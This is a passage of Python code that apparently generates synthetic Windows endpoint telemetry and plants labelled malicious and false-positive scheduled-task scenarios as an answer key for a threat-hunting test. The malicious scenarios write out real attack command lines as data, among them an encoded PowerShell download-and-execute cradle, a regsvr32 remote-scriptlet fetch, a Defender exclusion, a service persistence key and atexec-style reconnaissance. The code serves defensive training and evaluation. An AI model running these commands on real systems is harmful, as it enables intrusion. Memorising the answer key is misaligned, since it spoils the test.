    """Everyday activity in the five activity tables that are drawn from templates."""
    is_ws = data.fleet.role == "ws"
    for table in TABLES:
        templates = [t for t in _BACKGROUND if t.table == table and len(_eligible(data, t.kind, t.where))]
        if not templates:
            continue
        weights = np.array([t.weight for t in templates])
        counts = rng.multinomial(int(round(_BASE_ROWS[table] * scale)), weights / weights.sum())
        for tpl, n in zip(templates, counts):
            if n == 0:
                continue
            devices = _eligible(data, tpl.kind, tpl.where)
            dev = devices[rng.integers(len(devices), size=n)]
            data.add_piece(table, data.ll[dev, _KIND_INDEX[tpl.kind]], _times(rng, is_ws[dev]),
                           data.fill(tpl, dev, rng))


def _console_children(data: _Data, rng: np.random.Generator, parent: np.ndarray, dev: np.ndarray,
                      created: np.ndarray) -> None:
    """Every console program gets a conhost.exe, a few milliseconds later."""
    if len(parent) == 0:
        return
    ts = created + rng.integers(20_000, 300_000, len(parent)) * 100
    kids = data.add_procs(rng, dev, ts, parent, "conhost.exe", _CONHOST, "conhost.exe 0xffffffff -ForceV1", "parent")
    data.add_piece(PROCESS_TABLE, kids, ts, {"ActionType": "ProcessCreated"})


_FAMILIES = sorted(_DLLS)


def _image_loads(data: _Data, rng: np.random.Generator, procs: np.ndarray, families: np.ndarray,
                 created: np.ndarray) -> None:
    """DLLs loaded by given processes shortly after they start; ``families`` index ``_FAMILIES``."""
    for k, family in enumerate(_FAMILIES):
        sel = families == k
        if not sel.any():
            continue
        pool = _DLLS[family]
        codes = rng.integers(len(pool), size=int(sel.sum()))
        folder = _pick([d + f for d, f in pool], codes)
        keys = [_hashes(p) for p in folder.categories]
        ts = created[sel] + rng.integers(50_000, 30_000_000, int(sel.sum())) * 100
        data.add_piece("DeviceImageLoadEvents", procs[sel], ts, {
            "ActionType": "ImageLoaded", "FolderPath": folder, "FileName": _pick([f for _, f in pool], codes),
            "SHA1": _pick([k[0] for k in keys], folder.codes), "SHA256": _pick([k[1] for k in keys], folder.codes)})


def _background_processes(data: _Data, rng: np.random.Generator, scale: float) -> None:
    """Everyday process creations, their conhost children, and the DLLs they load."""
    is_ws = data.fleet.role == "ws"
    specs = [s for s in _SPAWNS if len(_eligible(data, s.parent, s.where))]
    weights = np.array([s.weight for s in specs])
    counts = rng.multinomial(int(round(_BASE_ROWS[PROCESS_TABLE] * scale)), weights / weights.sum())
    children, families, times = [], [], []
    for spec, n in zip(specs, counts):
        if n == 0:
            continue
        devices = _eligible(data, spec.parent, spec.where)
        dev = devices[rng.integers(len(devices), size=n)]
        ts = _times(rng, is_ws[dev])
        parent = data.ll[dev, _KIND_INDEX[spec.parent]]
        cmd = _pick(spec.cmds, rng.integers(len(spec.cmds), size=n))
        kids = data.add_procs(rng, dev, ts, parent, spec.file, spec.folder, cmd, spec.account,
                              spec.integrity, spec.company)
        data.add_piece(PROCESS_TABLE, kids, ts, {"ActionType": "ProcessCreated"})
        if spec.console:
            _console_children(data, rng, kids, dev, ts)
        children.append(kids)
        families.append(np.full(n, _FAMILIES.index(spec.dlls)))
        times.append(ts)
    kids, family, ts = np.concatenate(children), np.concatenate(families), np.concatenate(times)
    # Image loads: most by freshly started processes, the rest by long-lived services.
    n_loads = int(round(_BASE_ROWS["DeviceImageLoadEvents"] * scale))
    pick = rng.integers(len(kids), size=int(n_loads * 0.85))
    _image_loads(data, rng, kids[pick], family[pick], ts[pick])
    services = _eligible(data, "svc_dcom", "all")
    sdev = services[rng.integers(len(services), size=n_loads - len(pick))]
    kinds = np.array([_KIND_INDEX[k] for k in ("svc_dcom", "svc_wu", "msmpeng", "svc_bits")])
    sproc = data.ll[sdev, kinds[rng.integers(len(kinds), size=len(sdev))]]
    _image_loads(data, rng, sproc, np.full(len(sdev), _FAMILIES.index("system")), _times(rng, is_ws[sdev]))


def _everyday_tasks(data: _Data, rng: np.random.Generator, scale: float, quiet: set[int]) -> None:
    """Task Scheduler children that every office has, in volumes that are never rare.

    ``quiet`` are devices whose Schedule host has an unusual command line (the edge cases): the
    floor runs avoid them so that no everyday group depends on them for its count.
    """
    fleet = data.fleet
    is_ws = fleet.role == "ws"
    entries = [(t, fleet.by_role(t.where)) for t in _TASKS]
    weights = np.array([t.rate * len(d) for t, d in entries])
    total = int(round(_TASK_SHARE * _BASE_ROWS[PROCESS_TABLE] * scale))
    counts = rng.multinomial(total, weights / weights.sum())
    for (task, devices), n in zip(entries, counts):
        normal = np.array([d for d in devices if d not in quiet])
        if "<u>" in task.folder:  # one group per user profile: each needs its own floor
            floor = np.repeat(normal, _TASK_FLOOR)
        else:
            floor = normal[rng.integers(len(normal), size=_TASK_FLOOR)]
        dev = np.concatenate([floor, devices[rng.integers(len(devices), size=max(0, n - len(floor)))]])
        ts = _times(rng, is_ws[dev])
        parent = data.ll[dev, _KIND_INDEX["svc_schedule"]]
        folder = task.folder if task.file in _SHELLS else _cased(fleet, task.folder, dev)
        procs = data.add_procs(rng, dev, ts, parent, task.file, folder, task.cmd, task.account,
                               "Medium" if task.account == "user" else "System")
        data.add_piece(PROCESS_TABLE, procs, ts, {"ActionType": "ProcessCreated"})
        if task.console:
            _console_children(data, rng, procs, dev, ts)
        for act in task.activity:
            sel = rng.random(len(procs)) < act.weight
            delay = rng.uniform(*_TASK_DELAY, int(sel.sum())) * _SEC
            data.add_piece(act.table, procs[sel], ts[sel] + (delay // 100).astype(np.int64) * 100,
                           data.fill(act, dev[sel], rng))


# --------------------------------------------------------------------------------------------
# Planted scenarios: the answer key. Each is written row by row and described in scenarios.yaml.
# --------------------------------------------------------------------------------------------


@dataclass
class _Scenario:
    id: str
    kind: str                     # malicious | false_positive | edge_case
    title: str
    technique: str
    why: str
    seed_reports_it: bool
    folder: str
    cmd: str
    file: str = ""                # "" = the folder's last part
    account: str = ""             # set by the runs
    devices: list[int] = field(default_factory=list)
    runs: int = 0
    task_name: str = ""
    launched_by: str = SCHEDULE_CMDLINE
    seed_false_positive: int | None = None   # which of the published false positives it models

    def __post_init__(self) -> None:
        self.file = self.file or self.folder.rsplit("\\", 1)[-1]


def _letters(rng: np.random.Generator, n: int, alphabet: str = string.ascii_lowercase) -> str:
    return "".join(alphabet[i] for i in rng.integers(0, len(alphabet), n))


def _public_ip(rng: np.random.Generator, first: int) -> str:
    a, b, c = rng.integers(0, 256), rng.integers(0, 256), rng.integers(2, 254)
    return f"{first}.{a}.{b}.{c}"


class _Planter:
    """Writes the scenarios. One method per scenario (or per pair of related scenarios)."""

    def __init__(self, data: _Data, rng: np.random.Generator) -> None:
        self.d = data
        self.f = data.fleet
        self.rng = rng
        self.scenarios: list[_Scenario] = []
        self.ws = iter([int(x) for x in rng.permutation(self.f.ws)])  # distinct workstations
        # Devices whose Task Scheduler host is recorded differently (edge cases). They are chosen
        # before any process exists because their everyday tasks inherit the odd parent too.
        self.lower_parent_dev = next(self.ws)
        self.no_s_flag_dev = next(self.ws)
        self.f.sched_cmd[self.lower_parent_dev] = "svchost.exe -k netsvcs -p -s schedule"
        self.f.sched_cmd[self.no_s_flag_dev] = "svchost.exe -k netsvcs -p"

    # ---- small builders ---------------------------------------------------------------------

    def at(self, day: float, hour: float, jitter_min: float = 20) -> int:
        """A time in the window: day 0 is Monday 2026-11-02, plus up to ``jitter_min`` minutes."""
        base = _T0 + int(day * _DAY + hour * _HOUR)
        return base + int(self.rng.integers(0, max(1, int(jitter_min * 60 * 10**7)))) * 100

    def later(self, ts: int, lo: float, hi: float) -> int:
        """``lo`` to ``hi`` seconds after ``ts``."""
        return ts + int(self.rng.uniform(lo, hi) * 10**7) * 100

    def choice(self, options: Sequence[Any]) -> Any:
        return options[int(self.rng.integers(len(options)))]

    def port(self) -> int:
        return int(self.rng.integers(49152, 65536))

    def logon_id(self) -> int:
        return int(self.rng.integers(300_000, 90_000_000))

    def ll(self, dev: int, kind: str) -> int:
        """The long-lived process of ``kind`` on ``dev``."""
        return int(self.d.ll[dev, _KIND_INDEX[kind]])

    def user(self, dev: int) -> tuple[str, str, str]:
        return (_DOMAIN, self.f.user[dev], self.f.user_sid[dev])

    def dev_of(self, proc: int) -> int:
        return self.d.attr(proc, "device")

    def start(self, parent: int, ts: int, folder: str, cmd: str, account: tuple[str, str, str] | None = None,
              integrity: str | None = None, *, tag: int | None = None, rel: int = -1, company: str = _MS,
              hash_key: str | None = None, file: str | None = None) -> int:
        """A process creation: the process and its DeviceProcessEvents row.

        Account and integrity default to the parent's. ``tag`` None inherits the parent's scenario,
        so every descendant of a task stays in the task's tree.
        """
        if account is None:
            account = tuple(self.d.attr(parent, c) for c in ("AccountDomain", "AccountName", "AccountSid"))
        if integrity is None:
            integrity = self.d.attr(parent, "Integrity")
        if tag is None:
            tag = self.d.attr(parent, "scn")
        pid = int(self.rng.integers(250, 15_000)) * 4
        proc = self.d.proc(self.dev_of(parent), pid, ts, parent, file or folder.rsplit("\\", 1)[-1], folder, cmd,
                           account, integrity, tag, company, hash_key)
        self.d.event(PROCESS_TABLE, proc, ts, "ProcessCreated", rel=rel)
        return proc

    def conhost(self, proc: int, ts: int) -> int:
        return self.start(proc, self.later(ts, 0.002, 0.03), _CONHOST, "conhost.exe 0xffffffff -ForceV1")

    def net(self, proc: int, ts: int, ip: str, port: int, url: str = "", public: bool = True) -> None:
        self.d.event("DeviceNetworkEvents", proc, ts, "ConnectionSuccess", RemoteIP=ip, RemotePort=port,
                     RemoteUrl=url, LocalIP=self.f.ip[self.dev_of(proc)], LocalPort=self.port(), Protocol="Tcp",
                     LocalIPType="Private", RemoteIPType="Public" if public else "Private")

    def file(self, proc: int, ts: int, action: str, path: str, size: int | None = None, rel: int = -1,
             **extra: Any) -> None:
        deleted = action == "FileDeleted"  # a deleted file has no hash or size any more
        if size is None:
            size = _NULL if deleted else int(self.rng.integers(200, 400_000))
        self.d.event("DeviceFileEvents", proc, ts, action, rel, FolderPath=path, FileName=path.rsplit("\\", 1)[-1],
                     SHA256="" if deleted else _hashes(f"{self.d.seed}|{path}")[1], FileSize=size, **extra)

    def reg(self, proc: int, ts: int, key: str, name: str, vtype: str, data: str,
            action: str = "RegistryValueSet") -> None:
        self.d.event("DeviceRegistryEvents", proc, ts, action, RegistryKey=key, RegistryValueName=name,
                     RegistryValueType=vtype, RegistryValueData=data)

    def dll(self, proc: int, ts: int, path: str, hash_key: str | None = None) -> None:
        sha1, sha256 = _hashes(hash_key or path)
        self.d.event("DeviceImageLoadEvents", proc, ts, "ImageLoaded", FolderPath=path,
                     FileName=path.rsplit("\\", 1)[-1], SHA1=sha1, SHA256=sha256)

    def dotnet(self, proc: int, ts: int) -> None:
        """What every PowerShell start loads."""
        for i, (folder, name) in enumerate(_DLLS["dotnet"]):
            self.dll(proc, self.later(ts, 0.1 + i * 0.05, 0.15 + i * 0.05), folder + name)

    def ps_commands(self, proc: int, ts: int, commands: Sequence[str]) -> None:
        for i, command in enumerate(commands):
            self.d.event("DeviceEvents", proc, self.later(ts, 0.5 + i, 1.0 + i), "PowerShellCommand",
                         AdditionalFields=_json({"Command": command}))

    def task_created(self, k: int, creator: int, ts: int, name: str, command: str, arguments: str) -> None:
        """The DeviceEvents row Defender records when a task is registered (related, not in the tree)."""
        content = ('<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
                   'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions Context="Author">'
                   f"<Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>")
        self.d.event("DeviceEvents", creator, ts, "ScheduledTaskCreated", rel=k,
                     AdditionalFields=_json({"TaskName": name, "TaskContent": content}))

    def created_by_schtasks(self, k: int, dev: int, ts: int, command: str, schedule: str, run_as: str) -> None:
        """Scenario k's task registered from the user's console: explorer -> cmd.exe -> schtasks.exe."""
        s = self.scenarios[k]
        arguments = s.cmd.split(" ", 1)[1]
        cmd = self.start(self.ll(dev, "explorer"), ts, _CMD, '"cmd.exe"', integrity="High", tag=-1, rel=k)
        line = (f'schtasks.exe /create /tn "{s.task_name}" /tr "{command} {arguments}" /sc {schedule} '
                f"/ru {run_as} /f")
        t = self.later(ts, 20, 90)
        sch = self.start(cmd, t, _SYS32 + "schtasks.exe", line, tag=-1, rel=k)
        self.task_created(k, sch, self.later(t, 0.05, 0.3), s.task_name, command, arguments)

    def new(self, **fields: Any) -> int:
        """Register a scenario; returns its index (the tag of its processes)."""
        self.scenarios.append(_Scenario(**fields))
        return len(self.scenarios) - 1

    def run(self, k: int, dev: int, ts: int, account: tuple[str, str, str] = SYSTEM, integrity: str = "System",
            company: str = _MS, hash_key: str | None = None, parent: int | None = None) -> int:
        """One start of scenario k's task on ``dev``: by default the Schedule service launches it."""
        s = self.scenarios[k]
        if dev not in s.devices:
            s.devices.append(dev)
        s.runs += 1
        s.account = f"{account[0]}\\{account[1]}"
        parent = self.ll(dev, "svc_schedule") if parent is None else parent
        return self.start(parent, ts, s.folder, s.cmd, account, integrity, tag=k, company=company,
                          hash_key=hash_key, file=s.file)

    def private_ip(self, server: str) -> str:
        return self.f.ip[self.f.server(server)]

    # ---- malicious ---------------------------------------------------------------------------

    def mal_encoded_powershell(self) -> None:
        dev = next(self.ws)
        ip = _public_ip(self.rng, 185)
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a')"
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        k = self.new(
            id="mal-encoded-powershell", kind="malicious", technique="T1059.001",
            title="Encoded PowerShell download cradle run by a logon task as SYSTEM",
            why=("A task runs powershell.exe hidden with -enc; the base64 decodes to IEX (New-Object "
                 "Net.WebClient).DownloadString from a bare public IP. Rare, and every run calls out, so the "
                 "hunt must flag it."),
            seed_reports_it=True, folder=_POWERSHELL, cmd=f"powershell.exe -nop -w hidden -enc {enc}",
            task_name=self.choice(["\\Microsoft\\Windows\\WinSAT\\WinSATRefresh", "\\GoogleUpdateTaskMachineQA",
                                   "\\Microsoft\\Windows\\Maintenance\\SystemHealthCheck"]))
        self.created_by_schtasks(k, dev, self.at(1, 10.3), _POWERSHELL, "onlogon", "SYSTEM")
        service = _letters(self.rng, 7)
        for run, ts in enumerate((self.at(2, 7.9), self.at(3, 8.1))):
            p = self.run(k, dev, ts)
            self.conhost(p, ts)
            self.dotnet(p, ts)
            self.ps_commands(p, ts, ["New-Object", "Invoke-Expression"])
            self.net(p, self.later(ts, 2, 4), ip, 80)
            if run:
                continue
            policy_test = f"__PSScriptPolicyTest_{_letters(self.rng, 8)}.{_letters(self.rng, 3)}.ps1"
            self.file(p, self.later(ts, 1, 2), "FileCreated", "C:\\Windows\\Temp\\" + policy_test, 1)
            key = f"HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\{service}"
            t = self.later(ts, 5, 8)
            self.reg(p, t, key, "", "", "", "RegistryKeyCreated")
            self.reg(p, self.later(t, 0.01, 0.05), key, "ImagePath", "ExpandString",
                     f"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc {enc}")
            t = self.later(ts, 9, 12)
            whoami = self.start(p, t, _SYS32 + "whoami.exe", '"whoami.exe" /groups')
            self.dll(whoami, self.later(t, 0.01, 0.1), _SYS32 + "authz.dll")
            t = self.later(ts, 14, 20)
            net = self.start(p, t, _SYS32 + "net.exe", 'net.exe group "domain admins" /domain')
            net1 = self.start(net, self.later(t, 0.01, 0.05), _SYS32 + "net1.exe",
                              'C:\\Windows\\system32\\net1  group "domain admins" /domain')
            self.dll(net1, self.later(t, 0.06, 0.1), _SYS32 + "samcli.dll")
            self.net(net1, self.later(t, 0.1, 0.3), self.d.device_values["dc_ip"][dev], 445, public=False)
        self.first_victim = dev

    def mal_rundll32_user_dll(self) -> None:
        dev = next(self.ws)
        u = self.f.user[dev]
        word = _letters(self.rng, 6)
        dll = self.choice([f"C:\\Users\\Public\\Libraries\\{word}.dll",
                           f"C:\\Users\\{u}\\AppData\\Local\\Temp\\{word}.dat",
                           f"C:\\Users\\{u}\\AppData\\Roaming\\{word.capitalize()}\\{word}.dll"])
        export = self.choice(["DllRegisterServer", "Start", "#1", "RunW"])
        domain = f"{_letters(self.rng, 5)}-{_letters(self.rng, 4)}.{self.choice(['com', 'net', 'top', 'xyz'])}"
        ip = _public_ip(self.rng, 45)
        dll_dir = dll.rsplit("\\", 1)[0]
        k = self.new(
            id="mal-rundll32-user-dll", kind="malicious", technique="T1218.011",
            title="rundll32 loading a DLL from a user-writable folder at every logon",
            why=(f"rundll32.exe runs an unsigned DLL from {dll_dir}, talks to a fresh domain over 443 and injects "
                 "into explorer. System binaries running payloads from user folders are a classic loader; the hunt "
                 "must flag it."),
            seed_reports_it=True, folder=_RUNDLL32, cmd=f"rundll32.exe {dll},{export}",
            task_name="\\" + self.choice(["Adobe Acrobat Update", "OneDrive Sync Helper", "Zoom Updater"]))
        self.created_by_schtasks(k, dev, self.at(2, 13.5), _RUNDLL32, "onlogon", u)
        for run, ts in enumerate((self.at(3, 7.7), self.at(4, 8.0))):
            p = self.run(k, dev, ts, self.user(dev), "Medium")
            self.dll(p, self.later(ts, 0.05, 0.2), dll, hash_key=f"{self.d.seed}|{dll}")
            for i in range(2):
                self.net(p, self.later(ts, 3 + 30 * i, 5 + 30 * i), ip, 443, domain)
            if run:
                continue
            explorer = self.ll(dev, "explorer")
            self.d.event("DeviceEvents", p, self.later(ts, 6, 8), "CreateRemoteThreadApiCall",
                         FileName="explorer.exe", FolderPath="C:\\Windows\\explorer.exe",
                         ProcessId=self.d.attr(explorer, "pid"), ProcessCommandLine="Explorer.EXE")
            dropped = f"{_letters(self.rng, 4)}{int(self.rng.integers(1000, 9999))}.tmp"
            self.file(p, self.later(ts, 4, 6), "FileCreated", f"C:\\Users\\{u}\\AppData\\Local\\Temp\\{dropped}")
            t = self.later(ts, 40, 60)
            cmd = self.start(p, t, _CMD, "cmd.exe /c systeminfo")
            self.conhost(cmd, t)
            info = self.start(cmd, self.later(t, 0.05, 0.1), _SYS32 + "systeminfo.exe", "systeminfo")
            self.dll(info, self.later(t, 0.2, 0.4), _SYS32 + "wbem\\fastprox.dll")

    def mal_regsvr32_scriptlet(self) -> None:
        dev = next(self.ws)
        ip = _public_ip(self.rng, 91)
        name = _letters(self.rng, 4)
        sct = f"http://{ip}/{name}.sct"
        exclusion = f"C:\\ProgramData\\{_letters(self.rng, 6).capitalize()}"
        k = self.new(
            id="mal-regsvr32-scriptlet", kind="malicious", technique="T1218.010",
            title="regsvr32 fetching and running a remote COM scriptlet (Squiblydoo)",
            why=("regsvr32.exe /i:http://... scrobj.dll downloads and runs a scriptlet; here it then adds a "
                 "Defender exclusion. Rare and clearly malicious; the hunt must flag it."),
            seed_reports_it=True, folder=_REGSVR32, cmd=f"regsvr32.exe /s /n /u /i:{sct} scrobj.dll",
            task_name="\\Microsoft\\Windows\\Registry\\RegIdleBackupCheck")
        self.created_by_schtasks(k, dev, self.at(1, 15.2), _REGSVR32, "once /st 03:00", "SYSTEM")
        ts = self.at(2, 3.0, 2)
        p = self.run(k, dev, ts)
        self.dll(p, self.later(ts, 0.05, 0.1), _SYS32 + "scrobj.dll")
        self.dll(p, self.later(ts, 0.6, 0.8), _SYS32 + "jscript.dll")
        self.net(p, self.later(ts, 0.2, 0.5), ip, 80)
        cache = "C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\"
        cache += _letters(self.rng, 8, string.ascii_uppercase + string.digits)
        self.file(p, self.later(ts, 0.5, 0.6), "FileCreated", f"{cache}\\{name}[1].sct",
                  int(self.rng.integers(900, 3000)), FileOriginUrl=sct)
        t = self.later(ts, 1, 2)
        ps = self.start(p, t, _POWERSHELL,
                        f'powershell.exe -nop -w hidden -c "Add-MpPreference -ExclusionPath {exclusion}"')
        self.conhost(ps, t)
        self.dotnet(ps, t)
        self.reg(ps, self.later(t, 2, 3), _HKLM + "Microsoft\\Windows Defender\\Exclusions\\Paths", exclusion,
                 "Dword", "0")

    def mal_masquerade_appdata(self) -> None:
        dev = next(self.ws)
        u = self.f.user[dev]
        exe, sub, args = self.choice([("svchost.exe", "Microsoft", "-k LocalService"),
                                      ("OneDriveUpdate.exe", "Microsoft\\OneDrive", "/silent"),
                                      ("RuntimeBroker.exe", "Microsoft\\Windows", "-Embedding")])
        folder = f"C:\\Users\\{u}\\AppData\\Roaming\\{sub}\\"
        domain = f"{_letters(self.rng, 6)}.{self.choice(['com', 'net', 'info'])}"
        ip = _public_ip(self.rng, 45)
        k = self.new(
            id="mal-masquerade-appdata", kind="malicious", technique="T1036.005",
            title=f"Unsigned {exe} masquerading from the user's AppData",
            why=(f"A Windows/Microsoft program name ({exe}) run from the user's roaming profile, unsigned, with a "
                 "Run key, keylogging API calls, a beacon and a logon with an admin's credentials. The hunt must "
                 "flag it."),
            seed_reports_it=True, folder=folder + exe, cmd=f"{exe} {args}",
            task_name="\\Microsoft\\Windows\\Shell\\UserTaskRefresh")
        self.created_by_schtasks(k, dev, self.at(2, 16.4), folder + exe, "onlogon", u)
        run_key = f"HKEY_CURRENT_USER\\{self.f.user_sid[dev]}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
        for run, ts in enumerate((self.at(3, 7.8), self.at(5, 8.2))):
            p = self.run(k, dev, ts, self.user(dev), "Medium", company="", hash_key=f"{self.d.seed}|{folder}{exe}")
            for i in range(3):
                self.net(p, self.later(ts, 5 + 600 * i, 30 + 600 * i), ip, 443, domain)
            self.d.event("DeviceEvents", p, self.later(ts, 10, 20), "GetAsyncKeyStateApiCall")
            if run:
                continue
            self.reg(p, self.later(ts, 1, 2), run_key, exe[:-4] + " Update", "String", f'"{folder}{exe}" {args}')
            log = f"{folder}{_letters(self.rng, 5)}.dat"
            self.file(p, self.later(ts, 60, 90), "FileCreated", log, 0)
            self.file(p, self.later(ts, 1800, 2400), "FileModified", log)
            self.d.event("DeviceLogonEvents", p, self.later(ts, 200, 300), "LogonSuccess", LogonType="NewCredentials",
                         AccountDomain=_DOMAIN, AccountName=self.choice(self.f.admins), Protocol="Negotiate",
                         LogonId=self.logon_id())
            t = self.later(ts, 100, 150)
            cmd = self.start(p, t, _CMD, "cmd.exe /c tasklist /v")
            self.conhost(cmd, t)
            tasklist = self.start(cmd, self.later(t, 0.05, 0.1), _SYS32 + "tasklist.exe", "tasklist  /v")
            self.dll(tasklist, self.later(t, 0.2, 0.3), _SYS32 + "wbem\\wbemprox.dll")

    def mal_atexec(self) -> None:
        candidates = [int(x) for x in self.f.servers if self.f.role[x] in ("fs", "app", "sql")] + [next(self.ws)]
        dev = self.choice(candidates)
        tmp = f"C:\\Windows\\Temp\\{_letters(self.rng, 8, string.ascii_letters)}.tmp"
        source = self.first_victim  # lateral movement from the encoded-PowerShell victim
        k = self.new(
            id="mal-atexec-whoami", kind="malicious", technique="T1053.005",
            title="Remote one-shot task (Impacket atexec) running whoami into a temp file",
            why=("A task registered over RPC from another workstation runs cmd.exe /C whoami /all > "
                 "C:\\Windows\\Temp\\<8 letters>.tmp 2>&1 once and is deleted: lateral movement by atexec. Rare; "
                 "the hunt must flag it."),
            seed_reports_it=True, folder=_CMD, cmd=f"cmd.exe /C whoami /all > {tmp} 2>&1",
            task_name="\\" + _letters(self.rng, 8, string.ascii_letters))
        s = self.scenarios[k]
        ts = self.at(3, 22.5)
        sched = self.ll(dev, "svc_schedule")
        admin = self.f.admins[0]
        self.d.event("DeviceLogonEvents", self.ll(dev, "lsass"), self.later(ts, -3, -2), "LogonSuccess", rel=k,
                     LogonType="Network", AccountDomain=_DOMAIN, AccountName=admin, Protocol="NTLM",
                     RemoteIP=self.f.ip[source], RemoteDeviceName=self.f.names[source], RemoteIPType="Private",
                     RemotePort=self.port(), LogonId=self.logon_id())
        self.task_created(k, sched, self.later(ts, -1.5, -1), s.task_name, "cmd.exe", s.cmd.split(" ", 1)[1])
        p = self.run(k, dev, ts)
        self.conhost(p, ts)
        self.file(p, self.later(ts, 0.02, 0.05), "FileCreated", tmp, 0)
        whoami = self.start(p, self.later(ts, 0.03, 0.06), _SYS32 + "whoami.exe", "whoami  /all")
        self.dll(whoami, self.later(ts, 0.07, 0.1), _SYS32 + "authz.dll")
        self.d.event("DeviceEvents", sched, self.later(ts, 2, 4), "ScheduledTaskDeleted", rel=k,
                     AdditionalFields=_json({"TaskName": s.task_name}))
        self.file(self.ll(dev, "system"), self.later(ts, 5, 7), "FileDeleted", tmp, rel=k, RequestProtocol="Smb",
                  RequestSourceIP=self.f.ip[source], RequestAccountName=admin)

    def mal_hourly_beacon(self) -> None:
        dev = next(self.ws)
        folder, exe, cmd = self.choice([
            ("C:\\ProgramData\\Intel\\GfxUpdate\\", "igfxupd.exe", "igfxupd.exe -check"),
            ("C:\\ProgramData\\Microsoft\\DeviceSync\\", "devsync.exe", "devsync.exe /sync"),
            ("C:\\ProgramData\\Adobe\\ARM\\", "armupdate.exe", "armupdate.exe /silent")])
        host = f"{_letters(self.rng, 4)}{self.choice(['cdn', 'api', 'sync'])}.{self.choice(['net', 'org', 'io'])}"
        ip = _public_ip(self.rng, self.choice([45, 91, 185]))
        k = self.new(
            id="mal-hourly-beacon", kind="malicious", technique="T1071.001",
            title="Hourly beacon task on a single workstation",
            why=(f"{exe} in ProgramData runs every hour on one device and calls {host} each time. Malicious, but it "
                 "runs far more than twice, so the published count_ < 3 drops it; only a per-device prevalence "
                 "view catches it."),
            seed_reports_it=False, folder=folder + exe, cmd=cmd,
            task_name="\\Microsoft\\Windows\\Maintenance\\DeviceHealth")
        first = self.at(1, 9 + float(self.rng.integers(0, 6)), 1)
        self.created_by_schtasks(k, dev, first - 15 * _MIN, folder + exe, "hourly", "SYSTEM")
        minute = int(self.rng.integers(0, 60)) * _MIN
        for i, ts in enumerate(range(first + minute, _T0 + _DAYS * _DAY, _HOUR)):
            ts = int(ts) + int(self.rng.integers(0, 3 * 10**7)) * 100
            p = self.run(k, dev, ts, company="", hash_key=f"{self.d.seed}|{folder}{exe}")
            self.net(p, self.later(ts, 0.3, 1.0), ip, 443, host)
            if i == 0:
                self.dll(p, self.later(ts, 0.05, 0.1), _SYS32 + "winhttp.dll")
                self.file(p, self.later(ts, 1, 2), "FileCreated", folder + "cfg.dat", 412)
                self.reg(p, self.later(ts, 2, 3), _HKLM + "Microsoft\\Windows\\CurrentVersion\\Run", exe[:-4],
                         "String", folder + exe)

    # ---- the published false positives -------------------------------------------------------

    def fp_maintenance(self) -> None:
        k = self.new(
            id="fp-maintenance-temp-cleanup", kind="false_positive", technique="T1053.005", seed_false_positive=1,
            title="Maintenance script cleaning old temp files (PowerShell, piloted on two devices)",
            why=("Published false positive 1: IT's weekend maintenance task deletes week-old files from the temp "
                 "folder. powershell.exe passes the seed's path filter and it ran only twice, so the seed reports "
                 "it."),
            seed_reports_it=True, folder=_POWERSHELL, task_name="\\Fabrikam\\Maintenance\\TempCleanup",
            cmd=('powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-ChildItem -Path $env:TEMP -Recurse '
                 "| Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item -Force -Recurse "
                 '-ErrorAction SilentlyContinue"'))
        for dev in (next(self.ws), next(self.ws)):
            ts = self.at(5, 2.0, 10)
            p = self.run(k, dev, ts)
            self.conhost(p, ts)
            self.dotnet(p, ts)
            self.ps_commands(p, ts, ["Get-ChildItem", "Remove-Item"])
            for j in range(4):
                name = ("TMP0000" if j % 2 else "") + self.choice(_HEX) + (".log" if j % 2 else ".tmp")
                self.file(p, self.later(ts, 2 + j, 3 + j), "FileDeleted", "C:\\Windows\\Temp\\" + name)
        k = self.new(
            id="fp-maintenance-cleanmgr", kind="false_positive", technique="T1053.005", seed_false_positive=1,
            title="Disk Cleanup (cleanmgr /sagerun) run by a maintenance task",
            why=("Published false positive 1 as most estates run it: cleanmgr.exe lives in System32 and is not one "
                 "of the four shells, so the seed's path filter drops it before counting; the seed never sees it."),
            seed_reports_it=False, folder=_SYS32 + "cleanmgr.exe", cmd="cleanmgr.exe /sagerun:1",
            task_name="\\Fabrikam\\Maintenance\\DiskCleanup")
        for dev in (next(self.ws), next(self.ws)):
            ts = self.at(5, 3.0, 10)
            p = self.run(k, dev, ts)
            for j in range(3):
                self.file(p, self.later(ts, 5 + j, 6 + j), "FileDeleted",
                          f"C:\\Windows\\SoftwareDistribution\\Download\\{self.choice(_HEX)}\\update{j}.cab")

    def fp_patching(self) -> None:
        kb = f"kb50{int(self.rng.integers(40000, 49999))}"
        k = self.new(
            id="fp-patch-wusa", kind="false_positive", technique="T1053.005", seed_false_positive=2,
            title="Admin patch task installing an .msu with wusa /quiet",
            why=("Published false positive 2, launched directly: wusa.exe is in System32 and not a shell, so the "
                 "seed's path filter drops it and it is never reported."),
            seed_reports_it=False, folder=_SYS32 + "wusa.exe",
            cmd=f"wusa.exe C:\\Patches\\windows10.0-{kb}-x64.msu /quiet /norestart",
            task_name=f"\\Fabrikam\\Patching\\Install-{kb.upper()}")
        s = self.scenarios[k]
        dev = next(self.ws)
        ts = self.at(2, 12.5)
        self.task_created(k, self.ll(dev, "svc_gp"), self.later(ts, -300, -200), s.task_name, s.folder,
                          s.cmd.split(" ", 1)[1])
        p = self.run(k, dev, ts)
        cab = f"C:\\Windows\\Temp\\{self.choice(_GUIDS)}\\Windows10.0-{kb.upper()}-x64.cab"
        self.file(p, self.later(ts, 2, 5), "FileCreated", cab, int(self.rng.integers(10**7, 9 * 10**7)))
        self.dll(p, self.later(ts, 0.1, 0.3), _SYS32 + "wuapi.dll")

        msi = self.choice(["7z2408-x64.msi", "GoogleChromeStandaloneEnterprise64.msi", "FabrikamVPN-3.2.1.msi"])
        share = "\\\\fs01\\patches\\"
        k = self.new(
            id="fp-patch-msiexec", kind="false_positive", technique="T1053.005", seed_false_positive=2,
            title="Admin patch task installing an MSI quietly through cmd.exe",
